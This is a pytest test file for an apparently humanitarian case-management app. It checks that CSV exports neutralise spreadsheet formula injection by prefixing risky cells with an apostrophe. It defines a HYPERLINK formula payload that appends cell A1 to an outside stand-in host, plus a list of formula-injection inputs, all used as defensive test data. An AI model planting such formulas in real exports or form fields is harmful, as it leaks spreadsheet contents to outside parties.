"""Every spreadsheet file Lantern writes is inert: a text cell never starts a formula (core/exports.py)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from lantern.cases.htcds import export_ctdc, export_htcds
from lantern.cases.models import Case
from lantern.core.exports import cell_read, csv_writer, safe_cell
from lantern.portal import services as portal_services
from lantern.portal.models import Intake
from tests.conftest import World
from tests.portal.conftest import portal_world

SRC = Path(__file__).resolve().parents[2] / "src" / "lantern"
PAYLOAD = '=HYPERLINK("//e.tk/"&A1,"1@1")'  # the outside test's payload, with the "@" an e-mail contact needs


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+30 694 555", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\uff1d1+1", "-2+3",
     "\u200b=1", "\ufeff" + PAYLOAD, "\u200e\u200b @1", "\u2060+1"],  # invisible characters in front: still guarded
)  # fmt: skip
def test_formula_looking_text_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    out = io.StringIO()
    csv_writer(out).writerow([text])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0].startswith("'")
    assert cell_read(safe_cell(text)) == text  # an import of the file gets the text back


@pytest.mark.parametrize("text", ["'quoted'", "'", "Person1", "", "'-99"])
def test_an_apostrophe_lantern_did_not_add_is_kept(text: str) -> None:
    assert cell_read(text) == text


@pytest.mark.parametrize("value", [-99, -3.5, 0, "-99", "-3.5", "", "Person1", "LT-7Q4K", "a=b", None])
def test_numbers_and_ordinary_text_are_unchanged(value: Any) -> None:
    assert safe_cell(value) == value


def test_every_spreadsheet_writer_in_lantern_goes_through_core_exports() -> None:
    """Whoever adds an export (a survey's results, a new table) writes it through core.exports or this fails."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter|\.to_csv\(|\.to_excel\(|writer\.write_row")
    offenders = [
        f"{path.relative_to(SRC)}:{number}"
        for path in SRC.rglob("*.py")
        if path.name != "exports.py" or path.parent.name != "core"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if writers.search(line)
    ]
    assert offenders == []


@pytest.mark.django_db
def test_a_call_back_contact_with_a_formula_reaches_the_htcds_export_as_text(world: World) -> None:
    portal = portal_world(world)
    visitor = Client()
    page = visitor.get("/help/en/call-back/").content.decode()
    token = re.search(r'name="token" value="([^"]+)"', page)
    assert token
    request = portal_services.CallbackRequest(
        organisation=portal.hotline, language="ar", channel="email", contact=PAYLOAD, safe_times="-1+1 mornings"
    )
    intake = portal_services.callback_request(request=request, token=token.group(1), address="198.51.100.7")
    case = portal_services.intake_open_case(actor=portal.hotline_worker, intake=Intake.objects.get(pk=intake.pk))
    out = io.StringIO()
    assert export_htcds(portal.hotline, out) == 1
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["prs_Email"] == "'" + PAYLOAD
    assert row["lt_Reference"] == case.reference
    for value in row.values():
        assert not value or value[0] not in "=+-@\t\r" or re.fullmatch(r"-?\d+(\.\d+)?", value)


@pytest.mark.django_db
def test_ctdc_missing_values_stay_negative_numbers(consented_case: Case) -> None:
    out = io.StringIO()
    assert export_ctdc(Case.objects.all(), out) == 1
    assert "-99" in out.getvalue()
    assert "'" not in out.getvalue()
